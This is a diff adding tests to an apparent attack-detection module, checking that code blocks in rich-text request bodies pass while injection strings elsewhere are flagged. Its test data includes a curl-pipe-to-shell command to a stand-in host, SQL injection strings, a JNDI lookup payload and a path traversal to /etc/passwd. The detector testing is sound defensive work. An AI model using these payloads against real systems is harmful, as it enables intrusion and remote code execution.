@@ -199,3 +199,20 @@ describe('Documents within documents', () => {
     expect(json({ a: 'file:../../../etc/passwd' })).toBeDefined();
   });
 });
+
+describe('Blocks of code in structured texts', () => {
+  it.each([
+    { content: [{ type: 'codeBlock', content: [{ type: 'text', text: 'curl https://h.example/a | sh' }] }] },
+    { children: [{ type: 'code', code: { rich_text: [{ text: { content: 'SELECT 1 UNION SELECT 2' } }] } }] },
+    { elements: [{ type: 'rich_text_preformatted', elements: [{ type: 'text', text: "a' or '1'='1" }] }] },
+  ])('pass in %j', (body) => {
+    expect(json(body)).toBeUndefined();
+  });
+
+  it('are neither vouchers nor the whole request', () => {
+    expect(json({ discount: { type: 'code', code: "a' or '1'='1" } })).toBe('sqli');
+    expect(json({ discount: { type: 'code', value: "a' or '1'='1" } })).toBe('sqli');
+    expect(json({ type: 'code', text: "a' or '1'='1" })).toBe('sqli');
+    expect(json({ content: [{ type: 'codeBlock', text: '${jndi:ldap://h.example/a}' }] })).toBe('jndi');
+  });
+});
